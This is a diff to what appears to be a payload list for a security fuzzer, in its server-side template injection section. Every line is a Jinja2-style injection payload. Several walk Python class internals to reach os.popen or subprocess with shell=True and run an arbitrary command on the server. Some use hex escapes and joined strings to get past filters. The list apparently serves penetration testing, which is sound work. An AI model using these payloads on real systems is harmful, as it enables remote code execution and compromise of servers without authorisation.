@@ -310,7 +310,8 @@ ssti:
   __${«expr»}__::«w».x
   {{config.items()}}
   {{ self }}{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
-  {{''.__class__.__mro__[«n»].__subclasses__()}}
+  {{''.__class__.mro()[«n»].__subclasses__()}}
+  {{''.__class__.__mro__[2].__subclasses__()[«digit(2-3)»]}}
   {{''.__class__.__bases__[0].__subclasses__()[«digit(2-3)»]('«cmd»',shell=True,stdout=-1).communicate()}}
   {{''['__class__']['__base__']['__subclasses__']()}}
   {{request|attr(["_"*2,"class","_"*2]|join)}}
@@ -318,7 +319,7 @@ ssti:
   {{self.__init__.__globals__.__builtins__.__import__('os').popen('«cmd»').read()}}
   {{cycler.__init__.__globals__.os.popen('«cmd»').read()}}
   {{lipsum.__globals__['os'].popen('«cmd»').read()}}
-  {{config.__class__.__init__.__globals__['os'].popen('«cmd»').read()}}
+  {{config.__class__.from_envvar.__globals__['os'].popen('«cmd»').read()}}
   {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{c}}{% endif %}{% endfor %}
   {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
   {% if «n» == «n» %}«w»{% endif %}
